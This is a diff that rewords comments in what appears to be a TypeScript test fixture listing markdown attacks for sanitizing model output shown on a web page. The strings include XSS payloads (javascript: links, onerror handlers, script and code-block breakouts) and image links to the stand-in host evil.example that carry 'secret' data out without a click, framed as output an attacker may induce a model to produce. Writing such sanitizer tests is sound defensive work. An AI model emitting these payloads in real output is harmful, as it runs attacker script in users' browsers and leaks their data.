@@ -1,6 +1,6 @@
 /**
- * What a model may be made to say to a page. `EVIL` stands for an address of the attacker's; calling `ran()` is what
- * script would do.
+ * Markdown with which an attacker may attack a page through a model. `EVIL` is replaced by the attacker's origin; `ran()` is
+ * the function that injected scripts call.
  */
 export const EVIL = 'https://evil.example';
 
@@ -32,7 +32,7 @@ export const ATTACKS: readonly string[] = [
   '<noscript><p title="</noscript><img src=x onerror=ran()>">',
   '<template><script>ran()</script></template>',
   '<div style="background:url(EVIL/style.png)">x</div>',
-  // Links of every disguise.
+  // Disguised links.
   '[x](javascript:ran())',
   '[x](JaVaScRiPt:ran())',
   '[x](java\tscript:ran())',
@@ -50,7 +50,7 @@ export const ATTACKS: readonly string[] = [
   '<javascript:ran()>',
   '[x](https://example.com "onclick=ran()" onclick="ran()")',
   '[<img src=x onerror=ran()>](https://example.com)',
-  // What is fetched without a click, and so carries off what the model knows.
+  // Images, which are fetched without a click and so can leak data of the model.
   '![x](EVIL/?q=secret)',
   '![x][pixel]\n\n[pixel]: EVIL/?q=secret',
   '![x](//evil.example/?q=secret)',
@@ -60,13 +60,13 @@ export const ATTACKS: readonly string[] = [
   '| ![x](EVIL/?q=table) |\n|---|\n| <img src=x onerror=ran()> |',
   '- [x] <img src=EVIL/?q=list>\n- ![x](EVIL/?q=list)',
   '> <script>ran()</script>\n> ![x](EVIL/?q=quote)',
-  // Code, and what breaks out of it.
+  // Attempts to break out of code.
   '```html\n</code></pre><script>ran()</script>\n```',
   '```"><img/src=x/onerror=ran()>\nx\n```',
   '`</code><img src=x onerror=ran()>`',
   '# </h1><script>ran()</script>',
   '${ran()} {{ran()}} <%= ran() %>',
-  // What newer parts of markdown could let through.
+  // Extensions of CommonMark: footnotes, formulas, details, harmless tags, bare URLs.
   '[^1]\n\n[^1]: <img src=EVIL/?q=footnote> [x](javascript:ran())',
   '[^"><img src=x onerror=ran()>]\n\n[^"><img src=x onerror=ran()>]: x',
   '[x][^1]\n\n[^1]: javascript:ran()',
@@ -112,7 +112,7 @@ export const ATTACKS: readonly string[] = [
   '![<img src=x onerror=ran()>](EVIL/?q=alt "onerror=ran()")',
   '![x](  EVIL/?q=spaces  )',
   '![x](<EVIL/?q=angle>)',
-  // What each part of an address, a label, a title may hold.
+  // Unusual characters in addresses, labels and titles.
   '[x](<&#32;javascript:ran()>)',
   '[x](<\u00a0javascript:ran()>)',
   '[x](\u200bjavascript:ran())',
@@ -139,7 +139,7 @@ export const ATTACKS: readonly string[] = [
   '![x](EVIL/x.svg#xywh "x" srcset="EVIL/2x 2x")',
   '![x](EVIL/?q=a)![x](EVIL/?q=b)[^1]\n\n[^1]: ![x](EVIL/?q=c)',
   '[x](EVIL){target=_top onclick=ran()}',
-  // Elements that load, change the page or take its names.
+  // Elements that load resources, change the page or clobber its names.
   '<img srcset="EVIL/1x 1x, EVIL/2x 2x">',
   '<picture><source srcset="EVIL/p"><img></picture>',
   '<svg><image xlink:href="EVIL/i.png" href="EVIL/i.png"/><use href="data:image/svg+xml,x"/></svg>',
